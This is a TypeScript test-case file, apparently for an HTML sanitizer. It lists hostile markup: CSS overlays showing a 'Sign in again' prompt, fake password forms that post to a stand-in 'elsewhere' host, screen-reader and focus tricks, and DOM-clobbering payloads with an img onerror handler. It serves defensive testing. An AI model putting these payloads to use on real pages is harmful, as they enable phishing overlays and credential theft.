import { caseForEach, casesOf, elsewhere, strike } from './case.ts'

const over = caseForEach(
  'stands over the application',
  [
    'position:fixed;inset:0;z-index:2147483647;background:red',
    'position:absolute;top:-400px;left:-400px;width:4000px;height:4000px;background:red',
    'position:sticky;top:0;z-index:99;height:100vh;background:red',
    'position:fixed;top:0;width:100vw;height:100vh;opacity:0',
    'pos\\69tion:fixed;inset:0;background:red',
    'position:/**/fixed;inset:0',
    'margin-top:-900px;background:red',
    'margin:-50em -50em -50em -50em;background:red',
    'margin-top:calc(-1 * 900px)',
    'transform:translateY(-900px) scale(40)',
    'translate:0 -900px;scale:40;rotate:45deg',
    'zoom:40',
    'float:left;margin-left:-900px;width:4000px;height:4000px',
    'width:999999px;height:999999px',
    'width:99999em',
    'min-height:100vh;min-width:100vw',
    'height:100dvh;width:100cqw',
    'padding:9999px',
    'border:9999px solid red',
    'font-size:9999px',
    'line-height:9999',
    'letter-spacing:-99em',
    'text-indent:-9999px',
    'outline:9999px solid red',
    'box-shadow:0 0 0 9999px red',
    'text-shadow:0 -900px red',
    'filter:drop-shadow(0 -900px red)',
    'content-visibility:hidden;contain:strict',
    'inset-area:top;position-anchor:--x;anchor-name:--x',
    'view-transition-name:root',
    'animation:x 1s infinite;transition:all 1s',
    'cursor:none;pointer-events:none;user-select:none',
    'writing-mode:vertical-rl;height:9999px',
    'display:grid;grid-template-rows:repeat(9999,9999px)',
    'columns:1px 999;column-gap:9999px',
    'overflow:scroll;overscroll-behavior:contain;scroll-snap-type:y mandatory',
    'scroll-margin:9999px;scroll-behavior:smooth',
    'all:revert;display:contents',
  ],
  (style) => `<div style="${style}"><p>Sign in again</p></div>`,
)

const sheets = caseForEach(
  'style sheet for more than itself',
  [
    'html{display:none}',
    'body{position:fixed;inset:-900px;background:red}',
    'html,body{height:999999px!important;overflow:visible!important}',
    'body{margin:-900px!important;padding:9999px!important}',
    '*{position:fixed!important;inset:0!important;z-index:9999}',
    '*{animation:x .1s infinite!important}@keyframes x{to{height:99999px}}',
    ':host,:root,::backdrop{background:red;position:fixed}',
    'body:has(p)::before{content:"";position:fixed;inset:0;background:red}',
    'p::after{content:"Sign in again";position:absolute;top:-900px}',
    '.cc-warning{display:none!important}',
    '.visually-hidden{position:static!important}',
    'a:target,:target{position:fixed;inset:0}',
    '@media all{*{margin-top:-900px!important}}',
    'html{zoom:9}body{transform:scale(9)}',
    '@page{size:1px}@media print{*{display:none!important}}',
    'html{scrollbar-width:none;overflow:scroll!important;height:100vh!important}',
  ],
  (rules) => `<style>${rules}</style><p class="cc-warning visually-hidden" id="app">Text</p>`,
)

const forms = casesOf('form or control', {
  'sign-in form': `<form action="${elsewhere}/collect" method=post><input type=password name=p autofocus><button>Sign in</button></form>`,
  'button that sends elsewhere': `<form id=f></form><button form=f formaction="${elsewhere}/collect" formtarget=_top>Go</button>`,
  'form of the page': '<input form=search name=q autofocus><button form=search>Go</button>',
  'filled in by the browser': '<input autocomplete=cc-number><input type=password autocomplete=current-password>',
  'file field': '<input type=file webkitdirectory capture><input type=color><input type=date>',
  'list box': '<select multiple size=99 autofocus><option>1</select><datalist id=d><option>1</datalist>',
  'text area': '<textarea autofocus rows=999>Text</textarea>',
  output:
    '<output for=x>1</output><meter value=1></meter><progress></progress><fieldset><legend>Sign in</legend></fieldset>',
  'command invoker': '<button commandfor=d command=show-modal>Go</button><dialog id=d>Sign in</dialog>',
  'interest invoker': '<a href="https://a.example" interestfor=d>Link</a><div id=d popover>Text</div>',
  'install button': '<permission type="camera"></permission><geolocation autolocate></geolocation>',
  label: '<label for=search>Search</label><label accesskey=s>Text</label>',
  'old image button': `<isindex prompt="Sign in" action="${elsewhere}">`,
  'nested forms': `<form><form action="${elsewhere}"><input type=submit></form></form>`,
})

const interface_ = casesOf('part of an interface', {
  dialog: '<dialog open><p>Your session has ended</p></dialog>',
  popover: '<div popover=auto id=p>Sign in</div><button popovertarget=p popovertargetaction=show>Go</button>',
  editable: '<div contenteditable=true autofocus>Write here</div><p contenteditable=plaintext-only>x</p>',
  'document in editing': '<body contenteditable designmode=on>Text</body>',
  'keys of the page': '<a accesskey="s" href="https://a.example">S</a><p accesskey="d e #">D</p>',
  'order of focus':
    '<p tabindex=1>First</p><a tabindex=99 href="https://a.example">Link</a><p tabindex=-1 autofocus>x</p>',
  'focus group': '<div focusgroup="toolbar" tabindex=0 autofocus><p tabindex=0>x</p></div>',
  inert: '<p inert>Text</p><p hidden=until-found>Hidden</p><p hidden>Hidden</p>',
  'loud words':
    '<div role=alert aria-live=assertive>Your session has ended</div><p role=status>Deleted.</p><marquee>News</marquee>',
  landmarks:
    '<main><nav aria-label=Folders>Text</nav></main><header>Top</header><footer>End</footer><search>x</search><aside>y</aside>',
  'application to a screen reader':
    '<div role=application aria-modal=true aria-label="Sign in" aria-owns=app>Text</div>',
  'hidden from hearing':
    '<p aria-hidden=true>Seen</p><p aria-label="Harmless">Harmful</p><p role=presentation aria-roledescription="x">y</p>',
  'drag and drop': '<p draggable=true dropzone="copy">Drag</p>',
  'full screen': `<iframe allowfullscreen allow="camera *; fullscreen *" src="${elsewhere}"></iframe>`,
  'slots and parts': '<slot name=x></slot><p slot=header part=button exportparts=x>Text</p>',
  'microdata with actions': `<div itemscope itemtype="http://schema.org/EmailMessage"><link itemprop=url href="${elsewhere}/q"></div>`,
  'nonce and integrity': '<p nonce=a integrity=b crossorigin blocking=render>Text</p>',
  'shows details': '<details open name=x><summary autofocus accesskey=x>More</summary>Text</details>',
  'virtual keyboard':
    '<p virtualkeyboardpolicy=manual inputmode=none enterkeyhint=send writingsuggestions=true>Text</p>',
  'in the way of translation': '<p translate=no spellcheck=true autocapitalize=on lang=xx-hostile dir=rtl>Text</p>',
})

/** Names that hide the page's own properties (DOM clobbering). */
const names = caseForEach(
  'takes a name of the page',
  [
    ...[
      'app',
      'body',
      'head',
      'location',
      'cookie',
      'defaultView',
      'documentElement',
      'getElementById',
      'querySelector',
    ],
    ...['attributes', 'childNodes', 'firstChild', 'parentNode', 'nodeName', 'tagName', 'innerHTML', 'nextSibling'],
    ...[
      '__proto__',
      'constructor',
      'trustedTypes',
      'ownerDocument',
      'contentDocument',
      'namespaceURI',
      'removeAttribute',
    ],
  ],
  (name) =>
    `<form id="${name}" name="${name}"><input name="${name}"><img name="${name}" id="${name}"></form>` +
    `<a id="${name}" name="${name}" href="clobber:x">x</a><object id="${name}"></object><img src=x: onerror=${strike}>`,
)

export const coveringCases = [...over, ...sheets, ...forms, ...interface_, ...names]
